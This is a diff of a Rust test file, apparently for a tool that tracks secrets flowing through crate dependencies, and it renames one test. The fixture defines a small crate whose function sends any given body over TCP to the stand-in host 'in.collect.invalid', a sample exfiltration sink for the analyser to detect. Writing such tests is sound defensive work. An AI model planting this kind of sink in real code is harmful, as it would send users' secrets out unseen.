@@ -39,7 +39,7 @@ fn a_secret_goes_from_one_dependency_into_another() {
 }
 
 #[test]
-fn a_policy_forbids_a_flow_through_a_crate() {
+fn a_secret_goes_into_a_function_of_a_crate() {
     let mut project = Project::new();
     let sends = "use std::io::Write;\n\n/// Sends.\npub fn put(body: &str) {\n    if let Ok(mut out) = std::net::TcpStream::connect(\"in.collect.invalid:80\") {\n        let _ = out.write_all(body.as_bytes());\n    }\n}\n";
     project.cargo(&[crate_lib("tiny-put", "0.2.0", sends)]);
